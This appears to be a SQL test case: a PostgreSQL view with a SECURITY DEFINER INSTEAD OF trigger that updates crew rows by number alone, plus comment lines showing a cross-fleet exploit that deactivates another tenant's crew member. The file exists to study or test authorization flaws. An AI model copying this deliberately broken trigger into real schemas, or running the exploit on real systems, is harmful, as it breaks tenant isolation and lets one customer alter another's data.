-- The trigger behind the view changes crew by number alone; the same numbers exist in every fleet.
-- about: crew_list, set_crew, crew
-- as: hf_regatta_app
-- exploit: SET charter.fleet_id = '1';
-- exploit: UPDATE charter.crew_list SET active = false WHERE crew_no = 1;
-- exploit: SET charter.fleet_id = '2';
-- exploit: SELECT 'active=' || active FROM charter.crew_list WHERE crew_no = 1;
-- shows: active=false
CREATE VIEW charter.crew_list WITH (security_barrier = true) AS
  SELECT crew_no, name || coalesce(' (' || licence || ')', '') AS label, active
  FROM data.crew WHERE fleet_id = charter.fleet();
CREATE FUNCTION charter.set_crew() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = data, pg_temp AS $$
BEGIN
  UPDATE data.crew SET active = NEW.active WHERE crew_no = OLD.crew_no;
  RETURN NEW;
END $$;
CREATE TRIGGER set_crew INSTEAD OF UPDATE ON charter.crew_list
  FOR EACH ROW EXECUTE FUNCTION charter.set_crew();
GRANT SELECT, UPDATE ON charter.crew_list TO hf_regatta_app;
